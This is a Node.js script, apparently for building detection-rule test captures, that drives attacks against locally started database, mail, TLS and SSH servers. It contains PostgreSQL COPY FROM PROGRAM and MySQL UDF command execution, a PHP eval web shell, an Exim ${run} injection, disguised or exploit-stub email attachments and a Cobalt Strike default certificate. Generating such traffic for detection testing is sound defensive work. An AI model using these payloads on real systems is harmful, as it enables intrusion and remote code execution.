/**
 * Makes captures with real servers other than the web's: `node rules/make/servers.mjs [part of a file name …]` as root.
 * Needs postgresql, mariadb-server, exim4-daemon-light, openssh-server, openssl.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, chownSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { Rig } from './rig.mjs';

const rules = join(dirname(fileURLToPath(import.meta.url)), '..');
const wanted = process.argv.slice(2);
const asked = (...files) => wanted.length === 0 || files.some((f) => wanted.some((w) => f.includes(w)));
const work = mkdtempSync(join(tmpdir(), 'servers-'));
chmodSync(work, 0o755);
const rig = new Rig();
async function make(file, body) {
  if (!asked(file)) return;
  await rig.capture(join(rules, file), body);
  process.stdout.write(`${file}\n`);
}
const listening = async (port) => {
  for (let i = 0; i < 200; i++) {
    if ((await rig.fromVictim('ss', '-Hltn', `sport = :${port}`)).output.trim() !== '') return;
    await sleep(100);
  }
  throw new Error(`nothing listens on ${port}`);
};
const run = (...args) => rig.attack('timeout', '15', ...args);

async function postgresql() {
  const pg = 'database/postgresql-command/';
  const bin = execFileSync('pg_config', ['--bindir']).toString().trim();
  const data = join(work, 'pg');
  const as = (...args) => ['-u', 'postgres', '--', ...args];
  mkdirSync(data);
  execFileSync('chown', ['postgres', data]);
  execFileSync('runuser', as(join(bin, 'initdb'), '-D', data, '-A', 'trust', '-E', 'UTF8'), { stdio: 'ignore', cwd: '/tmp' });
  writeFileSync(join(data, 'pg_hba.conf'), 'host all all 0.0.0.0/0 trust\nlocal all all trust\n');
  const server = rig.victim('runuser', ...as(join(bin, 'postgres'), '-D', data, '-h', '10.42.1.10', '-p', '5432', '-k', data));
  await listening(5432);
  await sleep(800);
  const sql = (...statements) => run('psql', '-h', '10.42.1.10', '-U', 'postgres', ...statements.flatMap((s) => ['-c', s]));
  await make(`${pg}copy-program.pcap`, () => sql('CREATE TABLE o(t text)', "COPY o FROM PROGRAM 'id'", 'SELECT * FROM o'));
  await make(`${pg}refused.pcap`, async () => {
    await sql('CREATE ROLE app LOGIN');
    await run('psql', '-h', '10.42.1.10', '-U', 'app', 'postgres', '-c', "COPY (SELECT 1) TO PROGRAM 'id'");
  });
  await make(`${pg}miss-copy.pcap`, () => sql('CREATE TABLE p(program text)', "INSERT INTO p VALUES ('copy from program id')", 'COPY p TO STDOUT', 'SELECT program FROM p'));
  server.kill('SIGTERM');
}

async function mariadb() {
  const my = 'database/mysql-udf/';
  const data = join(work, 'my');
  execFileSync('mariadb-install-db', [`--datadir=${data}`, '--auth-root-authentication-method=normal', '--user=mysql', '--skip-test-db'], { stdio: 'ignore' });
  const server = rig.victim('mariadbd', '--no-defaults', `--datadir=${data}`, '--user=mysql', '--bind-address=10.42.1.10', '--port=3306', `--socket=${data}/s`, `--pid-file=${data}/p`, `--secure-file-priv=`);
  await listening(3306);
  await rig.fromVictim('mariadb', `--socket=${data}/s`, '-e', "CREATE USER 'root'@'203.0.113.66'; GRANT ALL ON *.* TO 'root'@'203.0.113.66' WITH GRANT OPTION;");
  const sql = (statement) => run('mariadb', '-h', '10.42.1.10', '-u', 'root', '--skip-ssl', '-f', '-e', statement);
  await make(`${my}udf.pcap`, () => sql("SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'; CREATE FUNCTION sys_eval RETURNS STRING SONAME 'udf.so'; SELECT sys_eval('id')"));
  await make(`${my}outfile.pcap`, () => sql("SELECT '<?php @eval($_POST[1]);?>' INTO OUTFILE '/tmp/servers-x.php'"));
  await make(`${my}miss-queries.pcap`, () => sql("CREATE DATABASE IF NOT EXISTS a; CREATE FUNCTION a.f() RETURNS INT RETURN 1; SELECT 'into outfile x.php', a.f(); DROP DATABASE a"));
  server.kill('SIGTERM');
}

async function exim() {
  const folder = 'mail/exim-expansion/';
  const conf = join(work, 'exim.conf');
  mkdirSync(join(work, 'spool'));
  execFileSync('chown', ['Debian-exim', join(work, 'spool')]);
  writeFileSync(conf, `primary_hostname = mail.example.net\ndomainlist local_domains = mail.example.net\nspool_directory = ${work}/spool\nlog_file_path = ${work}/spool/%s.log\nlocal_interfaces = 10.42.1.10\ndaemon_smtp_ports = 25\nacl_smtp_rcpt = r\nacl_smtp_data = r\nqueue_only\ntls_advertise_hosts =\nhost_lookup =\nrfc1413_query_timeout = 0s\nbegin acl\nr:\n accept\nbegin routers\nbegin transports\n`);
  chownSync(conf, 0, 0);
  const server = rig.victim('exim4', '-C', conf, '-bdf');
  await listening(25);
  const say = (...lines) => run('bash', '-c', `exec 3<>/dev/tcp/10.42.1.10/25; read -t 3 l <&3; ${lines.map((l) => `printf '%s\\r\\n' '${l.replaceAll("'", `'\\''`)}' >&3; read -t 2 l <&3;`).join(' ')} sleep 0.1`);
  await make(`${folder}run.pcap`, () => say('HELO client.example.org', 'MAIL FROM:<>', 'RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22id\\x22}}@mail.example.net>', 'QUIT'));
  await make(`${folder}miss-mail.pcap`, () => say('HELO client.example.org', 'MAIL FROM:<run@example.org>', 'RCPT TO:<${name}@mail.example.net>', 'QUIT'));
  const python = `
import smtplib, sys, base64
from email.message import EmailMessage
def send(subject, name, data, maintype='application', subtype='octet-stream'):
    m = EmailMessage(); m['From'] = 'hr@example.org'; m['To'] = 'li@mail.example.net'; m['Subject'] = subject
    m.set_content('请查收附件。')
    m.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    with smtplib.SMTP('10.42.1.10', 25, 'client.example.org', timeout=8) as s: s.send_message(m)
what = sys.argv[1]
import zipfile, io
def archive(name, data=b'MZ\\x90'):
    o = io.BytesIO()
    with zipfile.ZipFile(o, 'w') as z: z.writestr(name, data)
    return o.getvalue()
dos = b'MZ\\x90\\0\\3\\0\\0\\0' + b'\\0' * 70 + b'This program cannot be run in DOS mode.\\r\\r\\n' + bytes(range(200))
rtf = b'{\\\\rtf1{\\\\object\\\\objemb\\\\objupdate{\\\\*\\\\objclass Equation.3}\\\\objw380{\\\\*\\\\objdata 01050000020000000b0000004571756174696f6e2e33000000000000000000000c0000d0cf11e0a1b11ae1' + b'00' * 400 + b'}}}'
plain = b'{\\\\rtf1\\\\ansi a report about the equation editor}'
def ace(member): return bytes.fromhex('a1b2 3100 00 0090'.replace(' ', '')) + b'**ACE**' + bytes.fromhex('14140200105663') + b'\\x97' + bytes(16) + b'*UNREGISTERED VERSION*' + bytes(20) + member + b'MZ' + bytes(60)
if what == 'exe': send('发票', '发票.exe', dos)
if what == 'rlo': send('简历', '简历\\u202exslx.scr', dos)
if what == 'zip': send('通知', '通知.zip', archive('关于放假的通知.pdf.exe'))
if what == 'lnk': send('会议', '会议纪要.lnk', bytes.fromhex('4c0000000114020000000000c000000000000046') + bytes(300))
if what == 'rtf': send('合同', '合同.doc', rtf, 'application', 'msword')
if what == 'plain': send('报告', '报告.doc', plain, 'application', 'msword'); send('x', 'x.pdf', b'%PDF-1.4 Equation.3 0002ce02')
if what == 'ace': send('图片', '图片.rar', ace(b'C:\\\\C:C:../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/a.exe'))
if what == 'ace-plain': send('图片', '图片.ace', ace(b'photos/1.jpg')); send('图片', '图片.rar', b'Rar!\\x1a\\x07\\x01\\0' + bytes(200))
if what == 'documents': send('月报', '月报.xlsx', archive('xl/workbook.xml', b'<x/>')); send('照片', '照片.zip', archive('DSC_1.jpg', b'\\xff\\xd8')); send('说明', 'readme.txt', b'setup.exe is on the share', 'text', 'plain')
`;
  writeFileSync(join(work, 'mail.py'), python);
  const send = (...kinds) => async () => {
    for (const kind of kinds) {
      const { code, output } = await run('/usr/bin/python3', join(work, 'mail.py'), kind);
      if (code !== 0) process.stdout.write(`${kind}: ${output}\n`);
    }
  };
  await make('mail/executable-attachment/programs.pcap', send('exe', 'rlo', 'lnk'));
  await make('mail/executable-attachment/archive.pcap', send('zip'));
  await make('mail/executable-attachment/miss-documents.pcap', send('documents'));
  await make('mail/equation-editor-exploit/rtf.pcap', send('rtf'));
  await make('mail/equation-editor-exploit/miss-documents.pcap', send('plain', 'documents'));
  await make('mail/ace-path-traversal/startup.pcap', send('ace'));
  await make('mail/ace-path-traversal/miss-archives.pcap', send('ace-plain'));
  server.kill('SIGTERM');
}

async function certificates() {
  const folder = 'malware/cobalt-strike-certificate/';
  const certificate = (name, subject, ...more) => execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '3650', '-keyout', join(work, `${name}.key`), '-out', join(work, `${name}.pem`), '-subj', subject, ...more], { stdio: 'ignore' });
  certificate('cs', '/ST=Cyberspace/L=Somewhere/O=cobaltstrike/OU=AdvancedPenTesting/CN=Major Cobalt Strike', '-set_serial', '146473198');
  certificate('own', '/C=CN/O=Example/CN=www.example.net', '-set_serial', '146473199');
  for (const [file, name] of [['default.pcap', 'cs'], ['miss-own.pcap', 'own']]) {
    if (!asked(folder + file)) continue;
    const server = rig.victim('openssl', 's_server', '-accept', '10.42.1.10:443', '-key', join(work, `${name}.key`), '-cert', join(work, `${name}.pem`), '-tls1_2', '-www', '-quiet');
    await listening(443);
    await make(folder + file, () => run('curl', '-sk', '-o', '/dev/null', 'https://10.42.1.10/'));
    server.kill('SIGKILL');
    await sleep(200);
  }
}

async function ssh() {
  const folder = 'tunnel/ssh-odd-port/';
  if (!asked(`${folder}banner.pcap`)) return;
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(work, 'host')]);
  mkdirSync('/run/sshd', { recursive: true });
  const server = rig.victim('/usr/sbin/sshd', '-D', '-f', '/dev/null', '-h', join(work, 'host'), '-o', 'ListenAddress=10.42.1.10:443', '-o', 'ListenAddress=10.42.1.10:22', '-o', `PidFile=${work}/sshd.pid`);
  await listening(443);
  const client = (port) => run('ssh', '-F', '/dev/null', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'BatchMode=yes', '-p', port, 'nobody@10.42.1.10', 'true');
  await make(`${folder}port-443.pcap`, () => client('443'));
  await make(`${folder}miss-port-22.pcap`, () => client('22'));
  server.kill('SIGTERM');
}

try {
  rig.open(['203.0.113.66', '10.42.3.57'], ['10.42.1.10']);
  if (asked('database/postgresql-command/')) await postgresql();
  if (asked('database/mysql-udf/')) await mariadb();
  if (asked('mail/')) await exim();
  if (asked('malware/cobalt-strike-certificate/')) await certificates();
  await ssh();
} finally {
  rig.close();
}
